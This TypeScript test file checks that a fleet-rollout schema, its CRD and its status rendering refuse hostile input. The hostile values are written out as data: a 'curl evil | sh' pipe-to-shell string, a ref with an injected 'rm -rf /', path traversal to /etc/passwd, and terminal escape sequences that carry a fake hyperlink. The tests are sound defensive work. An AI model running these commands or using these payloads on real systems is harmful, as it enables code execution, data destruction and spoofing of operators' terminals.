import { describe, expect, it } from 'vitest';
import { parseChanges } from '../../src/cli/actions/fleet-rollout.js';
import { hubCrds } from '../../src/hub/hub-crds.js';
import { decideRollout } from '../../src/hub/rollout-decision.js';
import { rolloutSpecSchema, readFleetRollout } from '../../src/hub/rollout-schema.js';
import { rolloutText } from '../../src/hub/rollout-text.js';
import { environmentsSchema } from '../../src/project/environments.js';
import { SHA, T0, fleet, member, report, rollout, spec } from '../hub/rollout-fixtures.js';

// Attacks on the rollouts' new input paths (issue 34). groundwork.yaml's `rollout:` comes from the
// platform repository (a pull request controls it); a FleetRollout's spec from whoever may write it
// on the hub; member reports (their messages, reasons, labels) from every member, and they reach the
// rollout's status and operators' terminals. The apiserver's side (a member's credentials cannot
// write FleetRollouts, its release or another member) is in test/hub/hub-rollout.e2e.test.ts.

const env = (rollout: unknown) => [{ name: 'prod', overlays: ['prod'], ref: 'env/prod', rollout }];
const refused = (rollout: unknown) => environmentsSchema.safeParse(env(rollout)).success === false;

describe('groundwork.yaml rollout: from the repository', () => {
  it.each([
    [
      'a selector key that smuggles a selector',
      { waves: [{ name: 'a', selector: { 'ring=canary,x': 'y' } }] },
    ],
    ['a selector value with a newline', { waves: [{ name: 'a', selector: { ring: 'canary\nx' } }] }],
    ['a selector value with an escape', { waves: [{ name: 'a', selector: { ring: '\u001b[2J' } }] }],
    [
      'too many selector labels',
      {
        waves: [
          { name: 'a', selector: Object.fromEntries(Array.from({ length: 17 }, (_, i) => [`k${i}`, 'v'])) },
        ],
      },
    ],
    ['a wave name with a path', { waves: [{ name: '../etc' }] }],
    ['a huge wave name', { waves: [{ name: 'a'.repeat(500) }] }],
    ['21 waves', { waves: Array.from({ length: 21 }, (_, i) => ({ name: `w${i}` })) }],
    ['a negative percent', { waves: [{ name: 'a', percent: -5 }] }],
    ['a fractional percent', { waves: [{ name: 'a', percent: 12.5 }] }],
    ['maxUnavailable as an expression', { waves: [{ name: 'a' }], maxUnavailable: '1+1' }],
    ['maxFailures over 100%', { waves: [{ name: 'a' }], maxFailures: '101%' }],
    ['a negative maxUnavailable', { waves: [{ name: 'a' }], maxUnavailable: -1 }],
    ['a bake time of years', { waves: [{ name: 'a' }], bakeTime: '99999h' }],
    [
      'a window with a hostile time zone',
      {
        waves: [{ name: 'a' }],
        windows: [{ name: 'w', windows: [{ start: '01:00', duration: '1h', timezone: '../../etc/passwd' }] }],
      },
    ],
    [
      'a window name with spaces',
      {
        waves: [{ name: 'a' }],
        windows: [{ name: 'my window', windows: [{ start: '01:00', duration: '1h' }] }],
      },
    ],
    ['a windowLabel that is not a label key', { waves: [{ name: 'a' }], windowLabel: 'a b' }],
    ['an unknown key', { waves: [{ name: 'a' }], script: 'curl evil | sh' }],
    ['a wave with an unknown key', { waves: [{ name: 'a', command: 'x' }] }],
  ])('refuses %s', (_, value) => {
    expect(refused(value)).toBe(true);
  });

  it('refuses --changes other than the two kinds, with their text clipped', () => {
    expect(() => parseChanges(`machine-config,${'x'.repeat(10_000)}`)).toThrow(/is not a kind of change/);
    expect(() => parseChanges(`machine-config,${'x'.repeat(10_000)}`)).not.toThrow(/x{100}/);
  });
});

describe('a FleetRollout spec: bounded like every hub kind', () => {
  it.each([
    ['a revision that is a ref name', { revision: 'main' }],
    ['a short revision', { revision: 'abc123' }],
    ['a revision with a suffix', { revision: `${SHA}\n` }],
    ['a ref with a space', { ref: 'env/prod; rm -rf /' }],
    ['an environment that is not a DNS label', { environment: 'Prod' }],
    ['a progress deadline under a minute', { progressDeadlineSeconds: 1 }],
    ['a bake longer than a week', { bakeSeconds: 8 * 86_400 }],
    ['an unknown change kind', { changes: ['operators'] }],
    ['21 waves', { waves: Array.from({ length: 21 }, (_, i) => ({ name: `w${i}` })) }],
  ])('refuses %s (the CRD carries the same bounds)', (_, over) => {
    expect(rolloutSpecSchema.safeParse({ ...spec(), ...over }).success).toBe(false);
  });

  it('puts every bound of the schema into the CRD the apiserver enforces', () => {
    const crd = hubCrds().find((c) => c.metadata.name === 'fleetrollouts.hub.groundwork.io')!;
    const text = JSON.stringify(crd);
    expect(text).toContain('"^[0-9a-f]{40}$"');
    expect(text).toContain('"maxItems":5000');
  });

  it('reads a FleetRollout whose status was tampered with as having none (rewritten by the controller)', () => {
    const obj = { metadata: { name: 'x' }, spec: spec(), status: { phase: 'Succeeded', members: 'all' } };
    expect(readFleetRollout(obj).status).toBeUndefined();
  });
});

describe("members' reports reach the status and terminals as data", () => {
  const HOSTILE =
    'fix\u001b[2J\u001b]0;pwned\u0007\r\u009b31m\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\\nfake: line';

  it('strips control characters from a member message before the status and the text', () => {
    const members = fleet(2);
    const first = decideRollout(rollout(), members, T0);
    const failing = members.map((m) =>
      m.name === 'canary-1'
        ? member('canary-1', {
            labels: { ring: 'canary' },
            release: first.releases[0]!.release,
            report: report(SHA, {
              ready: { status: 'False', reason: 'HealthCheckFailed', message: HOSTILE },
            }),
          })
        : m,
    );
    const d = decideRollout({ ...rollout(), status: first.status }, failing, T0 + 1000);
    const json = JSON.stringify(d.status);
    const control =
      // eslint-disable-next-line no-control-regex
      /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]|\\u00(0[0-8b-f]|1[0-9a-f]|7f|8[0-9a-f]|9[0-9a-f])|\\r|\\n/;
    expect(json).not.toMatch(control);
    const text = rolloutText({ ...rollout(), status: d.status });
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(text.split('\n').some((l) => l.startsWith('fake: line'))).toBe(false);
  });

  it('does not let a member pick its own wave, skip the canary or widen maxUnavailable by its labels', () => {
    // A member can only report; labels are the hub's. Even a member that reports the commit applied
    // before any release is not counted as released or succeeded.
    const members = fleet(6).map((m) => (m.name.startsWith('store') ? { ...m, report: report(SHA) } : m));
    const d = decideRollout(rollout(spec({ maxUnavailable: '1' })), members, T0);
    expect(d.releases.map((r) => r.member)).toEqual(['canary-1']);
    expect(d.status.members!.filter((m) => m.state === 'Succeeded')).toEqual([]);
  });
});
